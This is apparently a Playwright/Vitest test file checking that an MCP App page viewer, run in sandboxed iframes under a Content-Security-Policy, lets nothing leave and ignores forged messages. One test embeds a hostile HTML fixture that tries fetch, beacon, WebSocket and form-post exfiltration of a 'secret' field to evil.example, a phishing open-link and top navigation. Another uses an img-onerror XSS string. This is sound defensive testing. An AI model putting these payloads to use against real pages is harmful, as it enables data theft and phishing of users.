/**
 * The page viewer (an MCP App) in Chromium, under a small host harness that does what Apps hosts
 * do (ext-apps `specification/2026-01-26/apps.mdx`): it loads the view in a sandboxed iframe
 * with the Content-Security-Policy the spec builds from the resource's `_meta.ui.csp`, answers
 * `ui/initialize`, waits for `ui/notifications/initialized`, then posts `tool-input` and
 * `tool-result`. Two hosts: a desktop-style one (the view's document served with the policy in
 * a header, `<iframe sandbox="allow-scripts">`) and a web-style one (a sandbox proxy on another
 * origin writes the view into its inner frame, as the spec's reference host does).
 *
 * "Nothing leaves" is checked three ways: every request that reaches the network (a Playwright
 * route; requests CSP blocks never get there), CSP violations in every frame, and sink servers
 * that evil.example and nav.evil.example resolve to (Chromium's --host-resolver-rules), which
 * count what reaches them.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromium, type Browser, type BrowserContext, type FrameLocator, type Page } from 'playwright-core';
import { cafesCsv } from '../directory/fixtures.js';
import { pageViewerContents, pageViewerHtml, pageViewerMeta, pageViewerResource, pageViewerUri } from '../../src/apps/page-viewer.js';
import { viewMeta } from '../../src/kernel/views.js';
import { appMimeType, appsProtocolVersion, type UiResourceCsp } from '../../src/apps/protocol.js';
import { startApp, type StartedApp } from '../helpers.js';
import { browserAvailable, browserSkipReason, chromiumPath } from '../support/browser.js';
import { describeMessages, errorsOf, validateHtml, vnuAvailable, vnuSkipReason } from '../support/vnu.js';

if (!browserAvailable) console.warn(browserSkipReason);
if (!vnuAvailable) console.warn(vnuSkipReason);

// ---------------------------------------------------------------------------------------------
// What the MCP layer serves

describe('the page viewer resource', () => {
  const baseUrl = 'https://outcomes.example.com/base';

  it('is a ui:// resource served as text/html;profile=mcp-app with its CSP metadata', () => {
    const contents = pageViewerContents(baseUrl);
    expect(contents.uri).toBe(pageViewerUri);
    expect(contents.uri.startsWith('ui://')).toBe(true);
    expect(contents.mimeType).toBe('text/html;profile=mcp-app');
    expect(contents.text).toBe(pageViewerHtml);
    // Only this service's origin, for the page's form posts: nothing else is declared.
    expect(contents._meta).toEqual({ ui: { csp: { connectDomains: ['https://outcomes.example.com'] }, prefersBorder: true } });
    expect(pageViewerResource(baseUrl)).toMatchObject({ uri: pageViewerUri, mimeType: appMimeType, _meta: contents._meta });
  });

  it('is named by the tools that return pages, in the current and the deprecated key', () => {
    expect(viewMeta('page')).toEqual({ ui: { resourceUri: pageViewerUri }, 'ui/resourceUri': pageViewerUri });
  });

  it('refuses a base URL that is not http(s)', () => {
    expect(() => pageViewerMeta('javascript:alert(1)')).toThrow(/http\(s\)/);
  });

  it('is static: nothing fetched, no HTML parsing of results, no eval', () => {
    expect(pageViewerHtml).toMatch(/^<!DOCTYPE html>/);
    expect(pageViewerHtml).not.toMatch(/\b(src|href|action)=|https?:\/\/|@import|url\(/i);
    expect(pageViewerHtml).not.toMatch(/innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function|setTimeout\(['"]/);
  });

  it.skipIf(!vnuAvailable)('is valid HTML', async () => {
    const messages = (await validateHtml({ viewer: pageViewerHtml })).viewer ?? [];
    expect(errorsOf(messages), describeMessages(errorsOf(messages))).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------
// The host harness

type Mode = 'direct' | 'proxy';

/** The policy a host builds from `_meta.ui.csp`, as the spec's "CSP Construction from Metadata" writes it. */
function hostCsp(csp: UiResourceCsp | undefined): string {
  const resources = (csp?.resourceDomains ?? []).join(' ');
  return [
    "default-src 'none'",
    `script-src 'self' 'unsafe-inline' ${resources}`,
    `style-src 'self' 'unsafe-inline' ${resources}`,
    `connect-src 'self' ${(csp?.connectDomains ?? []).join(' ')}`,
    `img-src 'self' data: ${resources}`,
    `font-src 'self' ${resources}`,
    `media-src 'self' data: ${resources}`,
    `frame-src ${csp?.frameDomains?.join(' ') || "'none'"}`,
    "object-src 'none'",
    `base-uri ${csp?.baseUriDomains?.join(' ') || "'self'"}`,
  ]
    .map((directive) => directive.trim())
    .join('; ');
}

/** JSON inside an inline script: `<` escaped so no `</script>` in the data ends it. */
const scriptJson = (value: unknown) => JSON.stringify(value).replace(/</g, '\\u003c');

/**
 * The host: it records every message from its frame (window.hostLog), answers the handshake,
 * follows size changes, and exposes deliver(arguments, result), notify(method, params) and forge(message). In proxy
 * mode the frame is the sandbox proxy, which gets the view's HTML and CSP in
 * `ui/notifications/sandbox-resource-ready`.
 */
function hostPage(mode: Mode, frameSrc: string, resource: ReturnType<typeof pageViewerContents>): string {
  const sandbox = mode === 'direct' ? 'allow-scripts' : 'allow-scripts allow-same-origin allow-forms';
  return `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Test host</title></head><body>
<iframe id="app" title="MCP App" sandbox="${sandbox}" src="${frameSrc}" style="display:block;width:720px;height:100px;border:0"></iframe>
<script>
(function () {
  var frame = document.getElementById('app');
  var resource = ${scriptJson({ html: resource.text, csp: resource._meta.ui.csp })};
  var log = (window.hostLog = []);
  var initialized;
  var ready = new Promise(function (resolve) { initialized = resolve; });
  function post(message) { message.jsonrpc = '2.0'; frame.contentWindow.postMessage(message, '*'); }
  window.addEventListener('message', function (event) {
    if (event.source !== frame.contentWindow) return;
    var message = event.data;
    if (!message || message.jsonrpc !== '2.0') return;
    log.push(message);
    switch (message.method) {
      case 'ui/notifications/sandbox-proxy-ready':
        return post({ method: 'ui/notifications/sandbox-resource-ready', params: { html: resource.html, csp: resource.csp } });
      case 'ui/initialize':
        return post({ id: message.id, result: { protocolVersion: ${scriptJson(appsProtocolVersion)}, hostInfo: { name: 'test-host', version: '1.0.0' }, hostCapabilities: { openLinks: {} },
          hostContext: { theme: 'light', displayMode: 'inline', availableDisplayModes: ['inline'], containerDimensions: { maxHeight: 20000 } } } });
      case 'ui/notifications/initialized':
        return initialized();
      case 'ui/open-link':
        return post({ id: message.id, result: {} });
      case 'ui/notifications/size-changed':
        frame.style.height = message.params.height + 'px';
    }
  });
  window.notify = function (method, params) {
    return ready.then(function () { post({ method: method, params: params }); });
  };
  window.deliver = function (args, result) {
    return ready.then(function () {
      post({ method: 'ui/notifications/tool-input', params: { arguments: args } });
      post({ method: 'ui/notifications/tool-result', params: result });
    });
  };
  // Another frame of the host page (same origin, not sandboxed) posting to the view: the view must not take it for its host.
  window.forge = function (message) {
    return ready.then(function () {
      var other = document.createElement('iframe');
      other.title = 'another frame';
      other.srcdoc = '<script>parent.frames[0]${mode === 'proxy' ? '.frames[0]' : ''}.postMessage(' + JSON.stringify(message) + ", '*');</" + 'script>';
      var loaded = new Promise(function (resolve) { other.onload = resolve; });
      document.body.appendChild(other);
      return loaded;
    });
  };
})();
</script></body></html>`;
}

/** The spec's sandbox proxy (a different origin from the host): writes the view into its inner frame and relays messages. */
const proxyPage = `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Sandbox</title><style>html,body{margin:0;height:100%}iframe{display:block;width:100%;height:100%;border:0}</style></head><body>
<script>
(function () {
  var inner = document.createElement('iframe');
  inner.setAttribute('sandbox', 'allow-scripts allow-same-origin allow-forms');
  inner.title = 'view';
  document.body.appendChild(inner);
  window.addEventListener('message', function (event) {
    var message = event.data;
    if (event.source === window.parent) {
      if (message && message.method === 'ui/notifications/sandbox-resource-ready') {
        var doc = inner.contentDocument;
        doc.open();
        doc.write(message.params.html);
        doc.close();
      } else inner.contentWindow.postMessage(message, '*');
    } else if (event.source === inner.contentWindow) window.parent.postMessage(message, '*');
  });
  window.parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/sandbox-proxy-ready', params: {} }, '*');
})();
</script></body></html>`;

interface Harness {
  url: (mode: Mode) => string;
  origins: string[];
  close: () => Promise<void>;
}

/** Serves the host at 127.0.0.1 and the view (direct) or the proxy at localhost: two origins on one port. */
async function startHarness(resource: ReturnType<typeof pageViewerContents>): Promise<Harness> {
  const policy = hostCsp(resource._meta.ui.csp);
  let port = 0;
  const server = http.createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://harness');
    const html = (body: string, headers: Record<string, string> = {}) => response.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store', ...headers }).end(body);
    if (url.pathname === '/host') {
      const mode = url.searchParams.get('mode') === 'proxy' ? 'proxy' : 'direct';
      return html(hostPage(mode, mode === 'direct' ? `http://localhost:${port}/view` : `http://localhost:${port}/sandbox`, resource));
    }
    if (url.pathname === '/view') return html(resource.text, { 'content-security-policy': policy });
    // The proxy takes the CSP from the resource-ready message in a real host; it is known here already.
    if (url.pathname === '/sandbox') return html(proxyPage, { 'content-security-policy': policy });
    response.writeHead(404).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
  return {
    url: (mode) => `http://127.0.0.1:${port}/host?mode=${mode}`,
    origins: [`http://127.0.0.1:${port}`, `http://localhost:${port}`],
    close: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/** Where evil.example resolves: it counts every connection, so a request that left cannot go unseen. */
async function startSink() {
  const seen = { connections: 0, requests: [] as string[] };
  const server = http.createServer((request, response) => {
    seen.requests.push(`${request.method} ${request.url}`);
    response.writeHead(204).end();
  });
  server.on('connection', () => void seen.connections++);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    seen,
    close: async () => {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

interface Violation {
  directive: string;
  blocked: string;
  in: string;
}

interface HostSession {
  page: Page;
  context: BrowserContext;
  /** The view's frame and the page's frame inside it. */
  view: FrameLocator;
  generated: FrameLocator;
  /** Every request that reached the network (the route sees no request CSP blocked). */
  network: string[];
  violations: Violation[];
  dialogs: string[];
  messages: () => Promise<Array<{ id?: number; method?: string; params?: any }>>;
  deliver: (args: Record<string, unknown>, result: unknown) => Promise<void>;
  close: () => Promise<void>;
}

/** Reported from every frame, however deep and whatever its origin (init scripts run in all of them). */
const reportViolations = `addEventListener('securitypolicyviolation', function (event) {
  console.log('csp-violation ' + JSON.stringify({ directive: event.effectiveDirective, blocked: event.blockedURI, in: location.href }));
});`;

async function openHost(browser: Browser, harness: Harness, mode: Mode): Promise<HostSession> {
  const context = await browser.newContext({ viewport: { width: 800, height: 900 } });
  context.setDefaultTimeout(15_000);
  const network: string[] = [];
  const violations: Violation[] = [];
  const dialogs: string[] = [];
  await context.addInitScript({ content: reportViolations });
  await context.route('**/*', (route) => {
    network.push(route.request().url());
    return route.continue();
  });
  const page = await context.newPage();
  page.on('console', (message) => {
    const text = message.text();
    if (text.startsWith('csp-violation ')) violations.push(JSON.parse(text.slice('csp-violation '.length)) as Violation);
    // Chromium's own report, for a frame the init script reached too late (a document written by the proxy).
    const reported = /^(?:Loading the \w+|Connecting to|Framing) '([^']+)' violates the following Content Security Policy directive: "([a-z-]+)/.exec(text);
    if (reported) violations.push({ directive: reported[2] as string, blocked: reported[1] as string, in: message.location().url });
  });
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss().catch(() => {});
  });
  await page.goto(harness.url(mode));
  const view = mode === 'direct' ? page.frameLocator('#app') : page.frameLocator('#app').frameLocator('iframe');
  return {
    page,
    context,
    view,
    generated: view.frameLocator('iframe.page'),
    network,
    violations,
    dialogs,
    messages: () => page.evaluate(() => (globalThis as any).hostLog),
    deliver: (args, result) => page.evaluate(([a, r]) => (globalThis as any).deliver(a, r), [args, result] as const),
    close: () => context.close(),
  };
}

/** A tool result as the MCP adapter shapes it: a summary, the JSON, and the output as structuredContent. */
const toolResult = (summary: string, output: Record<string, unknown>) => ({
  content: [
    { type: 'text', text: summary },
    { type: 'text', text: JSON.stringify(output) },
  ],
  structuredContent: output,
});

const isLocal = (url: string, origins: string[]) => /^(data|about|blob):/.test(url) || origins.includes(new URL(url).origin);

const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

// ---------------------------------------------------------------------------------------------
// In Chromium

describe.skipIf(!browserAvailable)('the page viewer in a host', () => {
  let app: StartedApp;
  let browser: Browser;
  let harness: Harness;
  /** evil.example: what the page loads; nav.evil.example: where it tries to go. */
  let sink: Awaited<ReturnType<typeof startSink>>;
  let navSink: Awaited<ReturnType<typeof startSink>>;
  let widget: any;
  const generateArguments = { prompt: 'A waitlist for Lumen Bakery sourdough classes in Leeds', kind: 'waitlist' };

  beforeAll(async () => {
    app = await startApp();
    const response = await app.api('/api/agents/widgets/generate', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(generateArguments) });
    expect(response.status).toBe(200);
    widget = await response.json();
    harness = await startHarness(pageViewerContents(app.url));
    sink = await startSink();
    navSink = await startSink();
    browser = await chromium.launch({
      executablePath: chromiumPath,
      args: [
        '--headless',
        '--no-sandbox',
        '--disable-gpu',
        '--disable-background-networking',
        '--no-first-run',
        `--host-resolver-rules=MAP evil.example 127.0.0.1:${sink.port},MAP nav.evil.example 127.0.0.1:${navSink.port}`,
      ],
    });
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    await sink?.close();
    await navSink?.close();
    await harness?.close();
    await app?.close();
  });

  const allowedOrigins = () => [...harness.origins, new URL(app.url).origin];

  it('notices a request that leaves (the checks below would see one)', async () => {
    const host = await openHost(browser, harness, 'direct');
    try {
      const before = sink.seen.connections;
      // The host page itself has no policy: its request goes out.
      await host.page.evaluate(() =>
        fetch('http://evil.example/control', { mode: 'no-cors' }).then(
          () => undefined,
          () => undefined,
        ),
      );
      expect(sink.seen.connections).toBeGreaterThan(before);
      expect(sink.seen.requests).toContain('GET /control');
      expect(host.network).toContain('http://evil.example/control');
    } finally {
      await host.close();
      sink.seen.requests.length = 0;
    }
  });

  describe.each<Mode>(['direct', 'proxy'])('%s host', (mode) => {
    it('shows the generated page after the handshake, sized to it, and loads nothing outside the declared CSP', async () => {
      const host = await openHost(browser, harness, mode);
      try {
        await host.deliver(generateArguments, toolResult(`Widget ${widget.widget_id} v1`, widget));
        const hero = widget.sections.find((section: any) => section.type === 'hero');
        const heading = host.generated.getByRole('heading', { level: 1 });
        await heading.waitFor({ state: 'visible' });
        expect(await heading.innerText()).toBe(hero.props.headline);
        expect(await host.view.locator('#status').isHidden()).toBe(true);
        expect(await host.view.locator('iframe.page').getAttribute('title')).toBe(`Generated page: ${widget.meta.title}`);

        // The handshake, in the spec's words.
        const messages = (await host.messages()).filter((message) => message.method !== 'ui/notifications/sandbox-proxy-ready');
        expect(messages[0]).toMatchObject({ method: 'ui/initialize', params: { appInfo: { name: 'agent-outcomes-page-viewer' }, appCapabilities: {}, protocolVersion: '2026-01-26' } });
        expect(messages[1]).toMatchObject({ method: 'ui/notifications/initialized' });
        expect(new Set(messages.map((message) => message.method))).toEqual(new Set(['ui/initialize', 'ui/notifications/initialized', 'ui/notifications/size-changed']));

        // The page frame takes the page's height, and the host's frame the view's.
        const pageHeight = await host.generated.locator('html').evaluate((root) => Math.ceil(root.getBoundingClientRect().height));
        expect(pageHeight).toBeGreaterThan(600);
        await expect.poll(() => host.view.locator('iframe.page').evaluate((frame) => frame.getBoundingClientRect().height)).toBe(pageHeight);
        await expect.poll(async () => (await host.messages()).filter((message) => message.method === 'ui/notifications/size-changed').at(-1)?.params.height).toBe(pageHeight);
        await expect.poll(() => host.page.locator('#app').evaluate((frame) => frame.getBoundingClientRect().height)).toBe(pageHeight);

        // Its in-page links (the hero's button to the form) stay in the page: a srcdoc document
        // would resolve "#waitlist" against the view's URL and leave.
        const cta = host.generated.getByRole('link', { name: hero.props.cta.text });
        expect(await cta.getAttribute('href')).toMatch(/^#/);
        await cta.click();
        await expect.poll(() => host.generated.locator('html').evaluate(() => (globalThis as any).document.activeElement?.id)).toBe(hero.props.cta.url.slice(1));
        expect(await heading.isVisible()).toBe(true);
        expect((await host.messages()).filter((message) => message.method === 'ui/open-link')).toEqual([]);

        expect(host.violations).toEqual([]);
        expect(host.network.filter((url) => !isLocal(url, allowedOrigins()))).toEqual([]);
        expect(host.dialogs).toEqual([]);
      } finally {
        await host.close();
      }
    });

    it('shows a directory (a site: its site.html), whose search works inside the view', async () => {
      const response = await app.api('/api/agents/directory/build', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ prompt: 'Vegan places in Lisbon', listings: cafesCsv }),
      });
      expect(response.status).toBe(200);
      const directory: any = await response.json();
      const host = await openHost(browser, harness, mode);
      try {
        await host.deliver({ prompt: 'Vegan places in Lisbon' }, toolResult(`Directory ${directory.directory_id} v1`, directory));
        await host.generated.locator('#dir-search[data-ready="true"]').waitFor();
        expect(await host.view.locator('iframe.page').getAttribute('title')).toBe(`Generated page: ${directory.meta.title}`);
        await host.generated.locator('#q').fill('tofu');
        await expect.poll(() => host.generated.locator('#results li').count()).toBe(1);
        expect(host.violations).toEqual([]);
        expect(host.network.filter((url) => !isLocal(url, allowedOrigins()))).toEqual([]);
      } finally {
        await host.close();
      }
    });

    it('shows the text of a result without a page: an error message, a job handle, escaped', async () => {
      const host = await openHost(browser, harness, mode);
      try {
        const missing = await app.api('/api/agents/widgets/wgt_01aaaaaaaaaaaaaaaaaaaaaaaa');
        const envelope: any = await missing.json();
        expect(envelope.error.message).toBeTruthy();
        await host.deliver({ widget_id: 'wgt_01aaaaaaaaaaaaaaaaaaaaaaaa' }, { isError: true, content: [{ type: 'text', text: JSON.stringify(envelope) }] });
        const statusLine = host.view.getByRole('status');
        await expect.poll(() => statusLine.innerText()).toBe(envelope.error.message);
        expect(await host.view.locator('iframe').count()).toBe(0);

        // A later result replaces it; markup in the text stays text.
        const text = 'Job job_01 <img src=x onerror=alert(1)><b>is running</b>; call job_status.';
        await host.page.evaluate((result) => (globalThis as any).deliver({}, result), toolResult(text, { job_id: 'job_01', status: 'running' }));
        await expect.poll(() => statusLine.innerText()).toBe(text);
        expect(await host.view.locator('img, b, iframe').count()).toBe(0);
        expect(host.dialogs).toEqual([]);
        expect(host.violations).toEqual([]);
      } finally {
        await host.close();
      }
    });

    it('keeps a hostile page inside the declared CSP, and ignores messages that are not from its host', async () => {
      const hostile = `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Hostile</title>
<link rel="stylesheet" href="https://evil.example/x.css"><script src="https://evil.example/x.js"></script></head>
<body><h1>Hostile page</h1><img src="https://evil.example/x.png" alt="">
<iframe src="http://nav.evil.example/frame" title="nested"></iframe>
<form id="out" action="http://nav.evil.example/post" method="post"><input name="secret" value="1"></form>
<script>
fetch('https://evil.example/fetch').catch(function () {});
try { navigator.sendBeacon('https://evil.example/beacon', 'x'); } catch (e) {}
try { new WebSocket('wss://evil.example/socket'); } catch (e) {}
parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/tool-result', params: { content: [{ type: 'text', text: 'forged by the page' }] } }, '*');
parent.postMessage({ jsonrpc: '2.0', id: 99, method: 'ui/open-link', params: { url: 'https://evil.example/phish' } }, '*');
setTimeout(function () { parent.postMessage({ type: 'ao-page-height', height: 1e9 }, '*'); }, 100);
try { top.location.href = 'http://nav.evil.example/top'; } catch (e) {}
setTimeout(function () { try { document.getElementById('out').submit(); } catch (e) {} }, 300);
setTimeout(function () { location.href = 'http://nav.evil.example/navigate'; }, 500);
</script></body></html>`;
      const host = await openHost(browser, harness, mode);
      try {
        const connections = sink.seen.connections;
        await host.deliver({}, toolResult('A page', { html: hostile, meta: { title: 'Hostile' } }));
        const blocked = () => host.violations.filter((violation) => violation.blocked.includes('evil.example')).map((violation) => violation.directive);
        await expect.poll(() => ['style-src', 'script-src', 'img-src', 'frame-src', 'connect-src'].filter((directive) => !blocked().some((found) => found.startsWith(directive)))).toEqual([]);
        await pause(1000); // the timed form post and navigation

        // Nothing the page loads reaches evil.example, not even a connection.
        expect(sink.seen.connections).toBe(connections);
        expect(sink.seen.requests).toEqual([]);
        // Nor does a request where it tries to go. (Chromium may open a connection for a frame
        // navigation before frame-src refuses it; no request is sent on it.)
        expect(navSink.seen.requests).toEqual([]);
        expect(host.network.filter((url) => !isLocal(url, allowedOrigins()))).toEqual([]);

        // What the page posted as if it were the host went nowhere; the height it claimed was capped.
        const statusLine = host.view.locator('#status');
        expect(await statusLine.isHidden()).toBe(true);
        expect(await statusLine.textContent()).not.toContain('forged');
        expect((await host.messages()).filter((message) => message.method === 'ui/open-link' || message.id === 99)).toEqual([]);
        expect(await host.view.locator('iframe.page').evaluate((frame) => frame.getBoundingClientRect().height)).toBe(20_000);
        expect(host.dialogs).toEqual([]);

        // Another frame of the host page is not the host either.
        await host.page.evaluate((message) => (globalThis as any).forge(message), {
          jsonrpc: '2.0',
          method: 'ui/notifications/tool-result',
          params: { content: [{ type: 'text', text: 'forged by another frame' }] },
        });
        await pause(300);
        expect(await statusLine.isHidden()).toBe(true);
        expect(await host.view.locator('iframe.page').count()).toBe(1);
      } finally {
        await host.close();
      }
    });

    it('hands a link that leaves the page to the host (ui/open-link) instead of navigating', async () => {
      const links = `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Links</title></head><body><h1>Links</h1>
<p><a href="#below">Below</a> <a href="https://example.com/more?x=1&amp;y=2">More</a></p><p id="below">Below</p></body></html>`;
      const host = await openHost(browser, harness, mode);
      try {
        await host.deliver({}, toolResult('A page', { html: links }));
        await host.generated.getByRole('link', { name: 'Below' }).click();
        await host.generated.getByRole('link', { name: 'More' }).click();
        await expect
          .poll(async () => (await host.messages()).filter((message) => message.method === 'ui/open-link'))
          .toEqual([expect.objectContaining({ method: 'ui/open-link', params: { url: 'https://example.com/more?x=1&y=2' } })]);
        expect(await host.generated.getByRole('heading', { name: 'Links' }).isVisible()).toBe(true);
        expect(host.network.filter((url) => !isLocal(url, allowedOrigins()))).toEqual([]);
        expect(host.violations).toEqual([]);
      } finally {
        await host.close();
      }
    });
  });

  it('fills a container of fixed height, the page scrolling inside', async () => {
    const host = await openHost(browser, harness, 'direct');
    try {
      await host.deliver(generateArguments, toolResult(`Widget ${widget.widget_id} v1`, widget));
      await host.generated.getByRole('heading', { level: 1 }).waitFor({ state: 'visible' });
      await host.page.evaluate(() => (globalThis as any).notify('ui/notifications/host-context-changed', { containerDimensions: { height: 400, width: 720 } }));
      await host.page.locator('#app').evaluate((frame: any) => (frame.style.height = '400px'));
      await expect.poll(() => host.view.locator('iframe.page').evaluate((frame) => frame.getBoundingClientRect().height)).toBe(400);
      expect(await host.generated.locator('html').evaluate((root) => root.scrollHeight)).toBeGreaterThan(400);
    } finally {
      await host.close();
    }
  });

  it("posts the page's form to this service, the one origin it declares (a host whose sandbox allows forms)", async () => {
    const host = await openHost(browser, harness, 'proxy');
    try {
      await host.deliver(generateArguments, toolResult(`Widget ${widget.widget_id} v1`, widget));
      const form = widget.sections.find((section: any) => section.type === 'form');
      await host.generated.getByLabel(/email/i).fill('ada@example.com');
      await host.generated.locator('form button[type=submit]').click();
      await expect.poll(() => host.generated.locator('.form-status').innerText()).toBe(form.props.success_message);

      const submissions = await (await app.api(`/api/agents/widgets/${widget.widget_id}/submissions`)).json();
      expect(JSON.stringify(submissions)).toContain('ada@example.com');
      expect(host.network.some((url) => url.startsWith(`${app.url}/f/${widget.widget_id}`))).toBe(true);
      expect(host.network.filter((url) => !isLocal(url, allowedOrigins()))).toEqual([]);
      expect(host.violations).toEqual([]);
    } finally {
      await host.close();
    }
  });
});
